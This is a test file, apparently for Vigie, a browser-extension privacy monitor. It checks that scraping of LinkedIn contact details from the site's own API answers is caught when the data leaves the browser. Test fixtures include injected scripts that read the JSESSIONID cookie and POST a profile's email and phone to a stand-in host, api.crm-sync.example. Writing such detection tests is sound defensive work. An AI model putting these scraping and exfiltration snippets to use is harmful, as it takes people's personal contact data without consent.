// Contact details learnt from LinkedIn's answer to its own page's contact
// lookup (the main-world hooks copy the answer; site-answers.js), in real
// Chromium on the faithful fixture site: an extension that copies what the
// page received and leaves nothing on the page to see is still caught when
// the values leave, with the evidence saying where they were learnt; the
// person opening Contact info with nothing leaving gets nothing; and a page
// of another site that serves LinkedIn-shaped answers teaches Vigie nothing.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { startServer } from '../../www/server.mjs';
import { CONTACT_LINK, SITE, findingsOf, popupCards, tabIdOf, waitForFinding, withBrowser, eventually } from './harness.mjs';
import { contactOf, findPerson } from '../../www/linkedin/people.mjs';

let server;
before(async () => {
  server = await startServer({ port: 0 });
});
after(async () => {
  await server?.close();
});

const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

/** Records, in Vigie's worker, the contact reports its observer sends (a test hook, not part of Vigie). */
async function recordContactReports(browser) {
  const worker = await browser.worker();
  await worker.evaluate(() => {
    globalThis.contactReports = [];
    chrome.runtime.onMessage.addListener((message) => {
      if (message?.type === 'vigie:contact-response' || message?.type === 'vigie:page-contact') globalThis.contactReports.push(message);
      return false;
    });
  });
  return async () => (await browser.worker()).evaluate(() => globalThis.contactReports ?? []);
}


test('an extension that copies what LinkedIn’s page received, closes the dialog and posts it is caught on LinkedIn’s answer', async () => {
  await withBrowser(server, ['quiet-scraper'], async (browser) => {
    const reports = await recordContactReports(browser);
    const page = await browser.context.newPage();
    await page.goto(`${SITE}/in/chloe-nguyen/`);
    await page.click(CONTACT_LINK);
    await eventually(() => server.collector.received.length === 1, { what: 'the fixture to post its contact', timeout: 15000 });
    assert.equal(await page.locator('#contact-dialog a[href^="mailto:"]').count(), 0, 'nothing left on the page');

    const leak = await waitForFinding(
      browser,
      (f) => f.kind === 'contactExfiltration' && (f.evidence.destinations ?? []).includes('api.crm-sync.example'),
      'the contact data sent to the CRM',
    );
    assert.equal(leak.severity, 'high');
    assert.equal(leak.confidence, 'likely', 'values the page reported are never proof');
    assert.ok(JSON.stringify(leak.message.args).includes('api.crm-sync.example'), 'the sentence names the receiving host');
    assert.deepEqual(leak.subjects, ['chloe-nguyen']);
    assert.ok(leak.evidence.dataKinds.includes('email') && leak.evidence.dataKinds.includes('phone'), JSON.stringify(leak.evidence));
    assert.ok(leak.evidence.notes.includes('valuesFromSiteResponse'), JSON.stringify(leak.evidence.notes));
    assert.ok(!leak.evidence.notes.includes('shapeOnly'), 'recognised as the values LinkedIn answered, not by their shape');
    assert.equal(leak.actor.type, 'unattributed', 'no extension named on the page’s word');
    assert.ok(leak.actor.candidates.some((c) => c.name === 'Fixture Quiet Scraper'), JSON.stringify(leak.actor));

    // What Vigie learnt came from LinkedIn's answer, not from the page's text.
    const seen = await reports();
    const { email } = contactOf(findPerson('chloe-nguyen'));
    assert.ok(seen.some((m) => m.type === 'vigie:contact-response' && m.body.includes(email)), 'the answer was read');
    assert.ok(!seen.some((m) => m.type === 'vigie:page-contact' && m.values.some((v) => v.value === email)), 'the e-mail was never seen shown');

    const cards = await popupCards(browser, await tabIdOf(browser, `${SITE}/in/*`));
    const card = cards.find((c) => c.kind === 'contactExfiltration');
    assert.match(card.text, /api\.crm-sync\.example/);
    assert.match(card.text, /read from the site’s answer to the page’s own request/);
  });
});

test('opening Contact info with nothing leaving raises nothing, though LinkedIn’s answer was read', async () => {
  await withBrowser(server, [], async (browser) => {
    const reports = await recordContactReports(browser);
    const page = await browser.context.newPage();
    await page.goto(`${SITE}/in/chloe-nguyen/`);
    await page.click(CONTACT_LINK);
    await page.locator('#contact-dialog[open] a[href^="mailto:"]').waitFor();
    await eventually(async () => (await reports()).some((m) => m.type === 'vigie:contact-response'), { what: 'the answer to be read' });
    await page.keyboard.press('Escape');
    await sleep(1500);
    assert.deepEqual(await findingsOf(browser), []);
  });
});

test('LinkedIn’s own XMLHttpRequest contact lookup is read too, whatever its response type asks', async () => {
  await withBrowser(server, [], async (browser) => {
    const reports = await recordContactReports(browser);
    const page = await browser.context.newPage();
    // A script of the site's own (served from its host): the legacy REST
    // record by XHR as text, then the same as "json", which is not read.
    await page.route(`${SITE}/static/xhr-lookup.js`, (route) =>
      route.fulfill({
        status: 200,
        contentType: 'text/javascript',
        body: `(() => {
          const csrf = (document.cookie.match(/JSESSIONID="?([^";]*)/) || [])[1] || '';
          const ask = (type, done) => {
            const xhr = new XMLHttpRequest();
            xhr.open('GET', '/voyager/api/identity/profiles/chloe-nguyen/profileContactInfo?as=' + (type || 'text'));
            xhr.setRequestHeader('csrf-token', csrf);
            xhr.responseType = type;
            xhr.onload = done;
            xhr.send();
          };
          ask('', () => ask('json', () => { document.body.dataset.asked = 'yes'; }));
        })();`,
      }),
    );
    await page.goto(`${SITE}/in/chloe-nguyen/`);
    await page.addScriptTag({ url: `${SITE}/static/xhr-lookup.js` });
    await page.locator('body[data-asked="yes"]').waitFor();
    await sleep(1000);
    const answers = (await reports()).filter((m) => m.type === 'vigie:contact-response');
    assert.deepEqual(answers.map((m) => new URL(m.url).search), ['?as=text'], 'the text answer only');
    assert.ok(answers[0].body.includes(contactOf(findPerson('chloe-nguyen')).email));
  });
});

test('another site serving LinkedIn-shaped contact answers to its own page teaches Vigie nothing', async () => {
  await withBrowser(server, [], async (browser) => {
    const reports = await recordContactReports(browser);
    const page = await browser.context.newPage();
    const shop = 'https://shop.example.test';
    const answer = { emailAddress: 'chloe@mapleandfinch.example', phoneNumbers: [{ number: '+1 514 555 0103', type: 'WORK' }] };
    await page.route(`${shop}/voyager/**`, (route) =>
      route.fulfill({ status: 200, contentType: 'application/json', body: JSON.stringify(answer) }),
    );
    // The shop's own script (served from its host, as a site's code is).
    await page.route(`${shop}/static/lookalike.js`, (route) =>
      route.fulfill({
        status: 200,
        contentType: 'text/javascript',
        body: `fetch('/voyager/api/identity/profiles/chloe-nguyen/profileContactInfo').then((r) => r.json()).then((c) =>
          fetch('https://api.crm-sync.example/v2/contacts', { method: 'POST', body: JSON.stringify({ email: c.emailAddress, phone: c.phoneNumbers[0].number }) }));`,
      }),
    );
    await page.goto(`${shop}/`);
    await page.addScriptTag({ url: `${shop}/static/lookalike.js` });
    await eventually(() => server.collector.received.some((r) => r.host === 'api.crm-sync.example'), { what: 'the page to post what it got' });
    await sleep(1500);
    assert.deepEqual(await reports(), [], 'no answer read on a site the model does not describe');
    assert.ok(!(await findingsOf(browser)).some((f) => f.kind === 'contactExfiltration'));
  });
});
